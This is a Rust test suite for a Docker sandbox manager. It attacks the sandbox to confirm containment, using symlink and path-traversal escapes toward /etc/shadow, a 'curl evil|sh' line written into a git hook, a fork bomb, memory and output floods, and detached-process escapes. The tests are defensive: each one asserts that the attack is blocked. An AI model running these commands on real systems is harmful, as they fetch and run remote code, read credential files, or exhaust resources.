//! Attacks on the sandbox, through the engine's sandbox manager and the real agent in a real
//! container: escapes, read-only mounts, hidden and protected files, network, resource bombs.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use airlock::sandbox::{SandboxError, SandboxManager};
use airlock_agent::{ErrorKind, Op, Reply, RunResult, RunSpec};
use common::*;
use std::sync::Arc;

fn manager(env: &TestEnv) -> Arc<SandboxManager> {
    sandbox_manager(env)
}

async fn run(m: &SandboxManager, command: &str) -> RunResult {
    run_with(m, command, 20_000, 1 << 20).await
}

async fn run_with(m: &SandboxManager, command: &str, timeout_ms: u64, cap: u64) -> RunResult {
    let spec = RunSpec {
        command: command.to_string(),
        timeout_ms,
        output_cap: cap,
        ..Default::default()
    };
    match m.call("s1", Op::Run(spec)).await.expect("run answered") {
        Reply::Ran(r) => r,
        other => panic!("unexpected {other:?}"),
    }
}

fn agent_kind(e: SandboxError) -> ErrorKind {
    match e {
        SandboxError::Agent(a) => a.kind,
        other => panic!("expected an agent refusal, got {other}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_inspect_shows_every_hardening_setting() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let sandbox = m.sandbox("s1").await.unwrap();
    let out = std::process::Command::new("docker")
        .args(["inspect", &sandbox.container_id])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let c = &v[0];
    let hc = &c["HostConfig"];
    assert_eq!(hc["CapDrop"], serde_json::json!(["ALL"]));
    assert!(
        hc["SecurityOpt"].to_string().contains("no-new-privileges"),
        "{}",
        hc["SecurityOpt"]
    );
    assert_eq!(hc["Init"], false, "the agent is PID 1 and reaps");
    assert_eq!(hc["CapAdd"], serde_json::json!(["SYS_ADMIN", "SETPCAP"]));
    assert_eq!(hc["Memory"], 256 * 1024 * 1024);
    assert_eq!(hc["PidsLimit"], 64);
    assert_eq!(hc["NanoCpus"], 1_000_000_000i64);
    assert_eq!(hc["NetworkMode"], "none");
    // The main process starts as root only to give its capabilities up (checked by the
    // boundary tests); the agent and the workload run as the sandbox user.
    assert_eq!(c["Config"]["User"], "0:0");
    let top = std::process::Command::new("docker")
        .args(["top", &sandbox.container_id])
        .output()
        .unwrap();
    let top = String::from_utf8_lossy(&top.stdout);
    let serving = top
        .lines()
        .find(|l| l.contains("serve"))
        .unwrap_or_default();
    assert!(serving.trim_start().starts_with("65532"), "{top}");
    assert_eq!(c["Config"]["Labels"]["dev.airlock.managed"], "true");
    let mounts = c["Mounts"].as_array().unwrap();
    let data = mounts
        .iter()
        .find(|m| m["Destination"] == "/workspaces/data")
        .unwrap();
    assert_eq!(data["RW"], false);
    let project = mounts
        .iter()
        .find(|m| m["Destination"] == "/workspaces/project")
        .unwrap();
    assert_eq!(project["RW"], true);
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commands_never_run_as_root_and_have_only_loopback() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let r = run(&m, "id -u; id -g").await;
    assert_eq!(r.stdout, "65532\n65532\n");
    let r = run(&m, "ls /sys/class/net").await;
    assert_eq!(
        r.stdout.split_whitespace().collect::<Vec<_>>(),
        vec!["lo"],
        "only lo: {r:?}"
    );
    // No route anywhere: connecting out fails at once.
    let r = run(&m, "wget -T 2 -q -O- http://10.255.255.1/ 2>&1; echo rc=$?").await;
    assert!(
        r.stdout.contains("rc=1") || r.stdout.contains("unreachable"),
        "{r:?}"
    );
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_escapes_fail_without_leaking_host_content() {
    let env = TestEnv::new("");
    std::fs::write(env.dir.path().join("outside.txt"), "HOST SECRET").unwrap();
    std::os::unix::fs::symlink("/etc/shadow", env.project.join("shadow")).unwrap();
    std::os::unix::fs::symlink(
        env.dir.path().join("outside.txt"),
        env.project.join("outside"),
    )
    .unwrap();
    std::os::unix::fs::symlink("../../", env.project.join("up")).unwrap();
    let m = manager(&env);
    for path in [
        "../../etc/passwd",
        "/etc/passwd",
        "/workspaces/project/../../etc/passwd",
        "shadow",
        "outside",
        "up/etc/passwd",
    ] {
        let e = m
            .call(
                "s1",
                Op::Read {
                    path: path.into(),
                    offset: None,
                    limit: None,
                },
            )
            .await
            .expect_err(path);
        let text = e.to_string();
        assert!(
            !text.contains("HOST SECRET") && !text.contains("root:"),
            "{path}: {text}"
        );
        assert!(
            matches!(agent_kind(e), ErrorKind::Escape | ErrorKind::NotFound),
            "{path}"
        );
    }
    // Writing through an escaping symlink and moving out are refused too.
    let e = m
        .call(
            "s1",
            Op::Write {
                path: "up/tmp/planted".into(),
                content: airlock_agent::Content::Text("x".into()),
                create_dirs: false,
            },
        )
        .await
        .unwrap_err();
    assert_eq!(agent_kind(e), ErrorKind::Escape);
    let e = m
        .call(
            "s1",
            Op::Move {
                from: "/workspaces/project/hello.txt".into(),
                to: "/tmp/x".into(),
                overwrite: false,
            },
        )
        .await
        .unwrap_err();
    assert_eq!(agent_kind(e), ErrorKind::Escape);
    assert!(env.project.join("hello.txt").exists());
    // A command's cwd cannot leave either.
    let spec = RunSpec {
        command: "pwd".into(),
        cwd: Some("/etc".into()),
        timeout_ms: 5000,
        output_cap: 1000,
        ..Default::default()
    };
    assert_eq!(
        agent_kind(m.call("s1", Op::Run(spec)).await.unwrap_err()),
        ErrorKind::Escape
    );
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn read_only_workspace_stays_unchanged() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let e = m
        .call(
            "s1",
            Op::Write {
                path: "/workspaces/data/readme.txt".into(),
                content: airlock_agent::Content::Text("changed".into()),
                create_dirs: false,
            },
        )
        .await
        .unwrap_err();
    assert_eq!(agent_kind(e), ErrorKind::ReadOnly);
    let r = run(&m, "echo changed > /workspaces/data/readme.txt; rm -f /workspaces/data/readme.txt; touch /workspaces/data/new; echo done").await;
    assert!(r.stderr.contains("Read-only file system"), "{r:?}");
    assert_eq!(
        std::fs::read_to_string(env.data_ws.join("readme.txt")).unwrap(),
        "read only data\n"
    );
    assert!(!env.data_ws.join("new").exists());
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hidden_files_are_masked_for_every_process_and_protected_paths_are_read_only() {
    let env = TestEnv::new("");
    std::fs::write(env.project.join(".env"), "API_KEY=hunter2\n").unwrap();
    std::fs::create_dir_all(env.project.join("sub/.ssh")).unwrap();
    std::fs::write(
        env.project.join("sub/.ssh/id_ed25519"),
        "PRIVATE KEY hunter2\n",
    )
    .unwrap();
    std::fs::create_dir_all(env.project.join(".git/hooks")).unwrap();
    std::fs::write(env.project.join(".git/config"), "[core]\n").unwrap();
    give_to_sandbox(&env.project);
    let m = manager(&env);
    // The file tools refuse.
    let e = m
        .call(
            "s1",
            Op::Read {
                path: ".env".into(),
                offset: None,
                limit: None,
            },
        )
        .await
        .unwrap_err();
    assert_eq!(agent_kind(e), ErrorKind::Hidden);
    // Commands see nothing either: cat, grep -r and find.
    let r = run(
        &m,
        "cat .env; cat sub/.ssh/id_ed25519; grep -r hunter2 . ; ls sub/.ssh; true",
    )
    .await;
    assert!(
        !r.stdout.contains("hunter2") && !r.stderr.contains("hunter2"),
        "{r:?}"
    );
    // Protected paths: the hooks folder and git config cannot be changed by commands.
    let r = run(
        &m,
        "echo 'curl evil|sh' > .git/hooks/pre-commit; echo x >> .git/config; echo rc=$?",
    )
    .await;
    assert!(r.stderr.contains("Read-only file system"), "{r:?}");
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    // Ordinary files in the same workspace are writable.
    let r = run(&m, "echo ok > normal.txt && cat normal.txt").await;
    assert_eq!(r.stdout, "ok\n");
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resource_bombs_are_contained() {
    let env = TestEnv::new("");
    let m = manager(&env);
    // Fork bomb: the pids limit holds it, the timeout ends it, and the sandbox still works.
    let r = run_with(&m, "bomb() { bomb | bomb & }; bomb; sleep 3", 6_000, 4096).await;
    assert!(r.timed_out || r.exit_code.is_some(), "{r:?}");
    let after = run(&m, "echo alive").await;
    assert_eq!(after.stdout, "alive\n");
    // Memory hog: killed, with a signal the tool explains.
    let r = run_with(&m, "tail /dev/zero", 20_000, 4096).await;
    assert_eq!(r.signal, Some(9), "{r:?}");
    let shown = airlock::tools::terminal::run_output(r);
    assert!(shown.text.contains("out of memory"), "{}", shown.text);
    // Output flood: cut at the cap, the rest counted.
    let r = run_with(&m, "yes | head -c 5000000", 20_000, 65_536).await;
    assert_eq!(r.stdout.len(), 65_536);
    assert_eq!(r.stdout_dropped, 5_000_000 - 65_536);
    // Runaway process: killed with its children at the timeout.
    let started = std::time::Instant::now();
    let r = run_with(&m, "sleep 1000 & sleep 1000", 1_500, 4096).await;
    assert!(r.timed_out, "{r:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    let ps = run(&m, "ps -o comm | grep -c sleep; true").await;
    assert_eq!(ps.stdout.trim(), "0", "no sleep survives: {ps:?}");
    m.stop_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_container_is_replaced_on_the_next_call() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let first = m.sandbox("s1").await.unwrap().container_id.clone();
    std::process::Command::new("docker")
        .args(["kill", &first])
        .output()
        .unwrap();
    // The agent stream ends; the next call starts a fresh sandbox and succeeds.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let r = run(&m, "echo back").await;
    assert_eq!(r.stdout, "back\n");
    let second = m.sandbox("s1").await.unwrap().container_id.clone();
    assert_ne!(first, second);
    m.stop_all().await;
    assert!(env.containers().is_empty(), "{:?}", env.containers());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clear_errors_when_the_runtime_cannot_run_anything() {
    let env = TestEnv::new("enabled = false");
    let m = manager(&env);
    let e = m.call("s1", Op::Hello).await.unwrap_err().to_string();
    assert!(e.contains("Docker Runtime is turned off"), "{e}");

    let env = TestEnv::new("docker_host = \"unix:///nonexistent/docker.sock\"");
    let e = manager(&env)
        .call("s1", Op::Hello)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("cannot reach the Docker engine at unix:///nonexistent/docker.sock"),
        "{e}"
    );

    let env = TestEnv::new("");
    std::fs::write(
        &env.config,
        env.settings_text("")
            .replace(&test_image(), "airlock-no-such-image:404"),
    )
    .unwrap();
    let e = manager(&env)
        .call("s1", Op::Hello)
        .await
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("airlock-no-such-image:404") && e.contains("not available"),
        "{e}"
    );
    assert!(env.containers().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_get_separate_sandboxes_and_release_removes_them() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let spec = |cmd: &str| {
        Op::Run(RunSpec {
            command: cmd.into(),
            timeout_ms: 5000,
            output_cap: 1000,
            ..Default::default()
        })
    };
    m.call("a", spec("echo mine > /tmp/state")).await.unwrap();
    let Reply::Ran(r) = m
        .call("b", spec("cat /tmp/state 2>&1; true"))
        .await
        .unwrap()
    else {
        panic!()
    };
    assert!(
        !r.stdout.contains("mine"),
        "no leakage between sessions: {r:?}"
    );
    let Reply::Ran(r) = m.call("a", spec("cat /tmp/state")).await.unwrap() else {
        panic!()
    };
    assert_eq!(r.stdout, "mine\n", "state survives within a session");
    assert_eq!(env.containers().len(), 2);
    m.release("a").await;
    assert_eq!(env.containers().len(), 1);
    m.stop_all().await;
    assert!(env.containers().is_empty());
}

/// A sandbox paused from outside (here by `docker pause`) answers nothing and closes nothing:
/// the call fails within seconds saying so, and the next call runs in a fresh sandbox (the
/// paused one removed).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_frozen_sandbox_never_hangs_a_call() {
    let env = TestEnv::new("");
    let m = manager(&env);
    let id = m.sandbox("s1").await.unwrap().container_id.clone();
    std::process::Command::new("docker")
        .args(["pause", &id])
        .output()
        .unwrap();
    let started = std::time::Instant::now();
    let spec = RunSpec {
        command: "echo hi".into(),
        timeout_ms: 1_000,
        output_cap: 100,
        ..Default::default()
    };
    let e = m.call("s1", Op::Run(spec)).await.unwrap_err().to_string();
    assert!(e.contains("container is paused"), "{e}");
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    assert_eq!(run(&m, "echo fresh").await.stdout, "fresh\n");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while env.containers().iter().any(|c| id.starts_with(c.as_str())) {
        assert!(
            std::time::Instant::now() < deadline,
            "the paused sandbox was left: {:?}",
            env.containers()
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    m.stop_all().await;
    assert!(env.containers().is_empty(), "{:?}", env.containers());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_timed_out_command_leaves_nothing_behind_even_in_other_sessions() {
    let env = TestEnv::new("");
    let m = manager(&env);
    // A `setsid` child, a double fork into a new session, and a fork loop in its own session
    // still forking when the timeout comes (paced, and bounded well below the test pids limit,
    // so that a survivor shows up in `ps` rather than starving the sandbox).
    let started = std::time::Instant::now();
    let r = run_with(
        &m,
        "setsid sleep 1000 & \
         ( setsid sh -c 'sleep 1000 &' & ); \
         setsid sh -c 'i=0; while [ $i -lt 30 ]; do sleep 1000 & i=$((i+1)); usleep 100000; done; wait' & \
         sleep 1000",
        1_500,
        4096,
    )
    .await;
    assert!(r.timed_out, "{r:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    // Killed and reaped: no `sleep` left, not even a zombie.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let ps = run(&m, "ps -o stat,comm | grep -c sleep; true").await;
        if ps.stdout.trim() == "0" {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "sleeps survived the timeout: {ps:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    m.stop_all().await;
}
